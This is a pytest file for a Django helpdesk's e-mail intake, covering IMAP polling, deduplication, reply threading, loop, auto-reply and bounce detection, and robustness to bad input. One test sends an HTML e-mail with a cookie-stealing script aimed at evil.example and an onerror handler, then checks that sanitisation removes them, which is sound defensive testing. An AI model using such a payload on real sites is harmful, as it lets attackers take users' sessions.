"""E-mail in from a real dovecot over IMAP, answers out through a real SMTP server (aiosmtpd)."""

from __future__ import annotations

import email.utils

from django.db import transaction
from django.utils import timezone

from tenure.core.models import Event
from tenure.core.outbox.delivery import deliver_due
from tenure.core.outbox.policy import IDENTITY_INVALID
from tenure.core.sweeper import registered_sweepers
from tenure.customers.models import Customer
from tenure.customers.services import create_customer
from tenure.helpdesk import ack
from tenure.helpdesk.models import Attachment, Request, RequestMessage
from tenure.inbox.mail import imap
from tenure.inbox.mail.poll import poll_due, poll_mailbox
from tenure.inbox.models import InboundLog, Mailbox
from tests.loopback import ReceivedMail

from .conftest import ImapAccount
from .mails import CUSTOMER, dsn, mail


def statuses(mailbox: Mailbox) -> list[str]:
    return list(
        InboundLog.objects.filter(source=f"imap:{mailbox.pk}").order_by("id").values_list("status", flat=True)
    )


def send_acknowledgement(request: Request) -> None:
    """The helpdesk's written acknowledgement for `request`, queued and delivered over SMTP now."""
    with transaction.atomic():
        locked = Request.objects.select_for_update().get(pk=request.pk)
        assert ack.acknowledge(locked, timezone.now())
        locked.save(update_fields=["ack_due_at", "ack_sent_at"])
    deliver_due(timezone.now())


def test_new_mail_becomes_a_request_once(imap_account: ImapAccount) -> None:
    imap_account.append(mail(attachments=(("photo.jpg", "image/jpeg", b"\xff\xd8" + b"j" * 500),)))
    imap_account.append(
        mail(sender="Bob <bob@customer.example>", subject="Invoice question", text="Why two charges?")
    )
    result = poll_mailbox(imap_account.mailbox)
    assert (result.fetched, result.error, dict(result.outcomes)) == (2, "", {"accepted": 2})
    ada = Customer.objects.get(identities__value=CUSTOMER)
    assert ada.name == "Ada Lovelace"
    request = Request.objects.get(customer=ada)
    message = RequestMessage.objects.get(request=request)
    assert message.channel == "email" and "boiler in the basement" in message.body
    assert Attachment.objects.get(message=message).filename == "photo.jpg"
    assert Event.objects.filter(customer=ada, kind="request.received").count() == 1

    # Polling again fetches nothing new; the UID moved on.
    mailbox = Mailbox.objects.get(pk=imap_account.mailbox.pk)
    assert mailbox.last_uid == 2 and mailbox.uid_validity and mailbox.last_polled_at
    again = poll_mailbox(mailbox)
    assert again.fetched == 0
    assert Request.objects.count() == 2


def test_uidvalidity_change_rereads_without_duplicates(imap_account: ImapAccount) -> None:
    imap_account.append(mail(message_id="<first@customer.example>"))
    poll_mailbox(imap_account.mailbox)
    mailbox = Mailbox.objects.get(pk=imap_account.mailbox.pk)
    # The server says the folder was rebuilt: our UIDs no longer mean anything.
    Mailbox.objects.filter(pk=mailbox.pk).update(uid_validity=mailbox.uid_validity - 1, last_uid=999)
    imap_account.append(mail(message_id="<second@customer.example>", subject="Second"))
    result = poll_mailbox(Mailbox.objects.get(pk=mailbox.pk))
    assert result.fetched == 2  # everything read again...
    assert RequestMessage.objects.count() == 2  # ...but the first message is not stored twice
    assert Mailbox.objects.get(pk=mailbox.pk).last_uid == 2


def test_sweeper_polls_due_mailboxes(imap_account: ImapAccount) -> None:
    assert "inbox.imap" in registered_sweepers()
    imap_account.append(mail())
    assert poll_due(timezone.now()) == 1
    assert Request.objects.count() == 1
    mailbox = Mailbox.objects.get(pk=imap_account.mailbox.pk)
    assert mailbox.next_poll_at is not None and mailbox.next_poll_at > timezone.now()
    assert poll_due(timezone.now()) == 0  # not due again until its interval has passed


def test_wrong_password_is_reported_not_raised(imap_account: ImapAccount) -> None:
    Mailbox.objects.filter(pk=imap_account.mailbox.pk).update(password="wrong")
    result = poll_mailbox(Mailbox.objects.get(pk=imap_account.mailbox.pk))
    assert result.fetched == 0
    assert "AUTHENTICATIONFAILED" in result.error
    assert Mailbox.objects.get(pk=imap_account.mailbox.pk).last_error == result.error


def test_messages_are_fetched_in_batches(imap_account: ImapAccount, settings: object) -> None:
    settings.TENURE_INBOX_IMAP_BATCH = 3  # type: ignore[attr-defined]
    for n in range(7):
        imap_account.append(
            mail(
                subject=f"Question {n}",
                sender=f"p{n} <p{n}@customer.example>",
                text=f"Question number {n} about something else entirely {n * 17}",
            )
        )
    result = poll_mailbox(imap_account.mailbox)
    assert result.fetched == 7
    assert sorted(RequestMessage.objects.values_list("subject", flat=True)) == [
        f"Question {n}" for n in range(7)
    ]
    conn = imap_account.server.client(imap_account.username, imap_account.password)
    try:
        conn.select("INBOX", readonly=True)
        # BODY.PEEK: the customer's mailbox flags are left as they were (nothing marked \\Seen).
        status, data = conn.uid("SEARCH", "UNSEEN")
        assert status == "OK" and len(data[0].split()) == 7
        assert imap.uids_after(conn, 7) == []
    finally:
        conn.logout()


def test_acknowledgement_goes_out_over_smtp_and_the_reply_threads(
    imap_account: ImapAccount, smtp_server: ReceivedMail
) -> None:
    first_id = email.utils.make_msgid(domain="customer.example")
    imap_account.append(mail(message_id=first_id))
    poll_mailbox(imap_account.mailbox)
    request = Request.objects.get()
    send_acknowledgement(request)
    [acknowledgement] = smtp_server.to(CUSTOMER)
    assert acknowledgement["In-Reply-To"] == first_id
    assert request.reference in acknowledgement["Subject"]

    # Our own message coming back (a forwarding loop) is recognised and ignored.
    imap_account.append(acknowledgement.as_bytes())
    # The customer answers the acknowledgement; their client quotes it.
    reply = mail(
        subject="Re: " + str(acknowledgement["Subject"]),
        text=f"It is still leaking.\n\nOn Mon, 2 Mar 2026 at 10:00, Shop <care@shop.example> wrote:\n> {acknowledgement.get_content()[:40]}",
        headers={
            "In-Reply-To": str(acknowledgement["Message-ID"]),
            "References": f"{first_id} {acknowledgement['Message-ID']}",
        },
    )
    imap_account.append(reply)
    # An out-of-office answer to the acknowledgement is not a new request either.
    imap_account.append(
        mail(
            subject="Out of office: " + str(acknowledgement["Subject"]),
            headers={"Auto-Submitted": "auto-replied"},
        )
    )
    poll_mailbox(imap_account.mailbox)
    assert statuses(imap_account.mailbox) == ["accepted", "loop", "accepted", "auto_reply"]
    assert Request.objects.count() == 1
    inbound = list(RequestMessage.objects.filter(request=request, direction="in").order_by("id"))
    assert [m.body for m in inbound][1] == "It is still leaking."
    ada = Customer.objects.get(identities__value=CUSTOMER)
    assert Event.objects.filter(customer=ada, kind="email.auto_reply").count() == 1
    assert Event.objects.filter(customer=ada, kind="request.customer_replied").count() == 1


def test_hard_bounce_marks_the_address_invalid(imap_account: ImapAccount, smtp_server: ReceivedMail) -> None:
    gone = create_customer(
        name="Gone Away", identities=[("email", "gone@customer.example"), ("phone", "+12025550143")]
    )
    imap_account.append(mail(sender="Gone Away <gone@customer.example>"))
    poll_mailbox(imap_account.mailbox)
    send_acknowledgement(Request.objects.get())
    [sent] = smtp_server.to("gone@customer.example")
    imap_account.append(dsn(failed="gone@customer.example", original_message_id=str(sent["Message-ID"])))
    poll_mailbox(imap_account.mailbox)
    assert statuses(imap_account.mailbox) == ["accepted", "bounce"]
    assert Request.objects.count() == 1
    invalid = Event.objects.get(customer=gone, kind=IDENTITY_INVALID)
    assert (invalid.payload["channel"], invalid.payload["value"]) == ("email", "gone@customer.example")
    assert Event.objects.filter(customer=gone, kind="message.bounced").exists()
    log = InboundLog.objects.get(status="bounce")
    assert log.customer == gone
    assert log.detail["failed"] == [
        {"address": "gone@customer.example", "action": "failed", "status": "5.1.1"}
    ]


def test_bad_input_never_loses_the_message(imap_account: ImapAccount) -> None:
    big = b"\0" * (30 * 1024 * 1024)
    imap_account.append(mail(subject="Video of the leak", attachments=(("leak.mp4", "video/mp4", big),)))
    imap_account.append(
        mail(
            subject="Script",
            text=None,
            html="<p>Hi</p><script>document.location='https://evil.example/?c='+document.cookie</script><img src=x onerror=alert(1)>",
        )
    )
    imap_account.append(
        b"From: Broken <broken@customer.example>\r\nSubject: =?utf-8?q?half=\r\n"
        b'Content-Type: multipart/mixed; boundary="x"\r\n\r\n--x\r\nContent-Type: text/plain; charset=bogus\r\n\r\n'
        b"\xe4\xf6\xfc garbled but kept\r\n"
    )
    imap_account.append(mail(subject="ᏣᎳᎩ", text="ᎣᏏᏲ. ᎤᏍᏗ ᎠᏂᏴᏫ ᎦᏬᏂᎯᏍᏗ."))
    imap_account.append(b"Subject: nobody sent this\r\n\r\nno From header at all\r\n")
    result = poll_mailbox(imap_account.mailbox)
    assert result.fetched == 5
    assert statuses(imap_account.mailbox) == ["accepted", "accepted", "accepted", "accepted", "error"]

    video = RequestMessage.objects.get(subject="Video of the leak")
    assert "leak.mp4" in video.body and "not kept" in video.body
    scripted = RequestMessage.objects.get(subject="Script")
    assert (
        "<script" not in scripted.html
        and "onerror" not in scripted.html
        and "evil.example" not in scripted.body
    )
    assert "garbled but kept" in RequestMessage.objects.get(sender="broken@customer.example").body
    assert RequestMessage.objects.get(subject="ᏣᎳᎩ").body == "ᎣᏏᏲ. ᎤᏍᏗ ᎠᏂᏴᏫ ᎦᏬᏂᎯᏍᏗ."
    kept = InboundLog.objects.get(status="error")
    assert bytes(kept.raw).endswith(b"no From header at all\r\n")
    assert "sender" in kept.detail["error"] or "address" in kept.detail["error"]
